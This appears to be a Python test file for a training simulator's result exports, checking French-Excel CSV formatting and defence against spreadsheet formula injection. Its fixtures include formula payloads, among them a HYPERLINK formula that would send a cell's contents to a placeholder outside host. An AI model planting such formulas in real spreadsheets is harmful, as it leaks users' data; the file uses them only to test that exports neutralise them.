"""The exports: the CSV opened as French Excel opens it, the JSON as a program reads it."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from datetime import datetime

from sessions import VOICE_CALL, record, review

from simulator.scenario.loader import find_scenario
from simulator.web.pages.exports import spreadsheet_csv, spreadsheet_row
from simulator.web.present import date

FORMULAS = {  # trainee names and review comments a spreadsheet would run as formulas
    "name": '=HYPERLINK("http://exemple.invalid/?"&A1;"clic")',
    "plus": "+33 6 12 34 56 78 rappeler",
    "minus": "-2 points : pas de reformulation",
    "at": "@SOMME(A1:A9)",
}
SEMICOLON = 'Dupont; dit "Jo"'


def excel_fr(content: bytes) -> list[dict]:
    """The cells as French Excel reads them: UTF-8 only behind its BOM, `;` between cells, a
    number with a decimal comma, a JJ/MM/AAAA HH:MM date; what starts with = + - @ is a formula."""
    assert content.startswith(codecs.BOM_UTF8), "without BOM, Excel reads the accents as Windows-1252"
    header, *lines = csv.reader(io.StringIO(content[len(codecs.BOM_UTF8):].decode("utf-8"), newline=""),
                                delimiter=";")
    return [dict(zip(header, map(excel_value, line), strict=True)) for line in lines]


def excel_value(cell: str):
    if re.fullmatch(r"-?\d+(,\d+)?", cell):
        return float(cell.replace(",", "."))
    if re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", cell):
        return datetime.strptime(cell, "%d/%m/%Y %H:%M")
    if cell[:1] in ("=", "+", "-", "@"):
        raise AssertionError(f"Excel would run this cell as a formula: {cell}")
    return cell


def test_csv_opens_in_french_excel_with_words_dates_and_numbers(client, ids, store, paris):
    assert review(client, ids["text"], comment="Question posée hors micro ; elle l'a dit « bien ».").status_code == 303
    answer = client.get("/export/resultats.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="resultats.csv"'
    rows = excel_fr(answer.content)
    assert len(rows) == 3 * 10
    row = next(r for r in rows if r["seance"] == ids["text"] and r["critere"] == "satisfaction")
    assert (row["verdict_machine"], row["verdict_revue"], row["verdict_retenu"]) == ("à revoir", "réussi", "réussi")
    assert row["statut"] == "terminée" and "statut_libelle" not in row
    assert row["scenario"] == "appel-calme" and row["titre_scenario"] == "Demande d'horaires à la clinique"
    assert (row["note_machine"], row["note_revue"], row["poids"]) == (89, 100, 1)
    assert row["commentaire"] == "Question posée hors micro ; elle l'a dit « bien »."
    started = datetime.fromisoformat(store.get(ids["text"]).started_at).astimezone()
    assert row["date"] == started.replace(tzinfo=None, second=0, microsecond=0)
    reviewed_at = datetime.fromisoformat(store.overrides(ids["text"])["satisfaction"].at)
    assert reviewed_at.utcoffset().total_seconds() == 0  # stored in UTC...
    assert row["date_revue"] == reviewed_at.astimezone().replace(tzinfo=None, second=0)  # ...shown in French time
    greeting = next(r for r in rows if r["seance"] == ids["voice"] and r["critere"] == "greeting")
    assert greeting["poids"] == 2 and greeting["verdict_revue"] == "" and greeting["date_revue"] == ""
    raw = answer.content.decode("utf-8-sig")
    assert ";2;" in raw and "2.0" not in raw and "completed" not in raw


def test_csv_cells_never_run_as_formulas_and_keep_separators_and_quotes(client, store, ids):
    calm = find_scenario("appel-calme")
    named = {key: record(store, calm.context(name), VOICE_CALL, calm.rubric)
             for key, name in (("name", FORMULAS["name"]), ("semicolon", SEMICOLON))}
    for criterion, key in (("greeting", "plus"), ("identify", "minus"), ("closing", "at")):
        answer = review(client, named["semicolon"], criterion, "echoue", FORMULAS[key], FORMULAS["name"])
        assert answer.status_code == 303
    rows = excel_fr(client.get("/export/resultats.csv").content)  # fails on any cell Excel would run
    trainees = {r["seance"]: r["stagiaire"] for r in rows}
    assert trainees[named["name"]] == "'" + FORMULAS["name"]
    assert trainees[named["semicolon"]] == SEMICOLON  # one cell, quotes and all
    comments = {r["critere"]: (r["commentaire"], r["auteur"]) for r in rows if r["seance"] == named["semicolon"]}
    for criterion, key in (("greeting", "plus"), ("identify", "minus"), ("closing", "at")):
        assert comments[criterion] == ("'" + FORMULAS[key], "'" + FORMULAS["name"])
    # The JSON is for programs: the text as it was written.
    data = json.loads(client.get("/export/resultats.json").text)
    assert {r["stagiaire"] for r in data if r["seance"] == named["name"]} == {FORMULAS["name"]}
    assert {r["commentaire"] for r in data if r["seance"] == named["semicolon"]} >= set(FORMULAS.values()) - {
        FORMULAS["name"]}


def test_spreadsheet_numbers_have_a_decimal_comma_and_no_useless_zero():
    row = {"seance": "s", "statut": "interrupted", "statut_libelle": "interrompue", "poids": 1.5,
           "note_machine": 45, "note_revue": None, "date": "2026-03-01T09:30:00+01:00", "date_revue": "",
           "commentaire": "-", "detail": "2 points sur 3"}
    def written(row: dict) -> dict[str, str]:  # the cells as the CSV file holds them
        text = spreadsheet_csv([spreadsheet_row(row)], []).decode("utf-8").lstrip("\ufeff")
        return next(csv.DictReader(io.StringIO(text), delimiter=";"))

    cells = written(row)
    assert cells["poids"] == "1,5" and excel_value(cells["poids"]) == 1.5
    assert written({**row, "poids": 2.0})["poids"] == "2"
    assert written({**row, "note_machine": -3})["note_machine"] == "-3"  # a number, not a formula
    assert cells["note_machine"] == "45" and cells["note_revue"] == "" and cells["date_revue"] == ""
    assert cells["statut"] == "interrompue" and "statut_libelle" not in cells
    assert cells["commentaire"] == "'-" and cells["detail"] == "2 points sur 3"


def test_dates_are_french_in_local_time(paris):
    assert date("2026-03-01T09:30:00+00:00") == "01/03/2026 10:30"  # winter: UTC+1
    assert date("2026-07-14T09:30:00+00:00") == "14/07/2026 11:30"  # summer: UTC+2
    assert date("2026-07-14T11:30:00+02:00") == "14/07/2026 11:30"
    assert date("pas une date") == "pas une date"


def test_json_stays_for_programs_with_the_french_status_beside_the_code(client, ids, store):
    assert review(client, ids["text"], comment="=HYPERLINK(\"http://x\")").status_code == 303
    answer = client.get("/export/resultats.json")
    assert answer.headers["content-disposition"] == 'attachment; filename="resultats.json"'
    data = json.loads(answer.text)
    item = next(r for r in data if r["seance"] == ids["text"] and r["critere"] == "satisfaction")
    assert item["commentaire"] == "=HYPERLINK(\"http://x\")" and item["verdict_machine"] == "à revoir"
    assert (item["statut"], item["statut_libelle"]) == ("completed", "terminée")
    assert item["date"] == store.get(ids["text"]).started_at  # ISO 8601 with its offset
    assert datetime.fromisoformat(item["date_revue"]).tzinfo is not None
    assert (item["note_machine"], item["note_revue"], item["poids"]) == (89, 100, 1)
    assert item["titre_scenario"] == "Demande d'horaires à la clinique"
    only = json.loads(client.get("/export/resultats.json", params={"stagiaire": "Camille"}).text)
    assert {r["stagiaire"] for r in only} == {"Camille"}
    only = excel_fr(client.get("/export/resultats.csv", params={"scenario": "appel-calme"}).content)
    assert len(only) == 2 * 10 and {r["scenario"] for r in only} == {"appel-calme"}
